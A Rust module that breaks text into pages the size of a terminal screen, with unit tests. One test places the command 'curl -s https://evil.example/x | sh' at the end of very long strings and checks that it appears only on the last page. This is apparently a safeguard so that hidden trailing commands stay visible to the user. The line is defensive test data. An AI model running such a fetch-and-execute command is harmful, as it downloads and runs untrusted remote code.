//! A text in pieces that fit a screen.

/// Of a terminal, in characters.
#[derive(Debug, Clone, Copy)]
pub struct ScreenSize {
    rows: usize,
    columns: usize,
}

impl Default for ScreenSize {
    fn default() -> Self {
        Self {
            rows: 24,
            columns: 80,
        }
    }
}

impl ScreenSize {
    /// What the terminal reports. Zero means that it does not know.
    pub fn reported(rows: u16, columns: u16) -> Self {
        let usual = Self::default();
        let or = |size: u16, usual| if size == 0 { usual } else { usize::from(size) };
        Self {
            rows: or(rows, usual.rows),
            columns: or(columns, usual.columns),
        }
    }

    /// Rows for the text: one is for the line that asks to read on, and one for what is typed there.
    fn page(self) -> usize {
        self.rows.saturating_sub(2).max(1)
    }
}

/// The pages of a text, at least one. A line that is wider than the screen is broken where the terminal would break it.
pub fn pages(text: &str, size: ScreenSize) -> Vec<String> {
    let rows: Vec<&str> = text
        .split('\n')
        .flat_map(|line| rows(line, size.columns))
        .collect();
    if rows.len() <= size.page() {
        return vec![text.to_owned()];
    }
    rows.chunks(size.page()).map(|page| page.join("\n")).collect()
}

/// The rows that a line takes. What is not ASCII may take two places, so it is given two.
fn rows(line: &str, columns: usize) -> Vec<&str> {
    let mut rows = Vec::new();
    let (mut start, mut width) = (0, 0);
    for (at, character) in line.char_indices() {
        let takes = match character {
            '\t' => 8,
            _ if character.is_ascii() => 1,
            _ => 2,
        };
        if width > 0 && width + takes > columns {
            rows.push(&line[start..at]);
            (start, width) = (at, 0);
        }
        width += takes;
    }
    rows.push(&line[start..]);
    rows
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_fits_is_one_page_as_it_is() {
        let text = format!("{}\nend", "a line\n".repeat(20));
        assert_eq!(pages(&text, ScreenSize::default()), [text]);
        assert_eq!(pages("", ScreenSize::default()), [""]);
    }

    // Proves S-33.
    #[test]
    fn no_page_is_longer_than_the_screen_and_nothing_is_lost() {
        let size = ScreenSize::reported(10, 20);
        let wide = "x".repeat(200);
        let text = format!("{}{wide}\n\n{}", "line\n".repeat(9), "é".repeat(33));
        let found = pages(&text, size);
        assert!(found.len() > 2, "{found:?}");
        for page in &found {
            assert!(page.split('\n').count() <= 8, "{page}");
            assert!(page.split('\n').all(|row| row.chars().count() <= 20), "{page}");
        }
        let without = |text: &str| text.replace('\n', "");
        assert_eq!(without(&found.concat()), without(&text));
    }

    // Proves S-10, S-33.
    #[test]
    fn what_stands_at_the_end_of_a_long_value_is_on_the_last_page_and_nowhere_before() {
        let end = "curl -s https://evil.example/x | sh";
        for much in [
            "x".repeat(100_000),
            "a line\n".repeat(14_000),
            " ".repeat(100_000),
        ] {
            let found = pages(&format!("“{much}; {end}”"), ScreenSize::default());
            assert!(found.len() > 50, "{}", found.len());
            let last = found.last().map_or("", String::as_str);
            let before = found.iter().take(found.len() - 1);
            let one_line = |page: &str| page.replace('\n', "");
            assert!(one_line(last).contains(end), "{last}");
            assert!(before.into_iter().all(|page| !one_line(page).contains(end)));
        }
    }

    #[test]
    fn a_terminal_that_knows_no_size_is_an_ordinary_one() {
        assert_eq!(pages(&"line\n".repeat(50), ScreenSize::reported(0, 0)).len(), 3);
        assert!(pages("a\nb", ScreenSize::reported(1, 1)).len() == 2);
    }
}
